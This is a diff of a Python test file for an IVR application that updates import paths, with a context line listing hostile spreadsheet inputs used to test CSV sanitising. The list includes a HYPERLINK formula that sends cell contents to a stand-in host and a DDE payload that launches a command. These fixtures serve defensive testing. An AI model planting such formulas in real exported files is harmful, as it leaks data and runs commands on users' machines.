@@ -11,10 +11,11 @@ from typing import Any
 import pytest
 from aiohttp.test_utils import TestClient, TestServer
 
-from ivr import csvsafe, reports
+from ivr.core import csvsafe
+from ivr.reports import service as reports
 from ivr.api.app import build_app
 from ivr.campaigns import contacts
-from ivr.config import from_mapping
+from ivr.app.config import from_mapping
 
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]
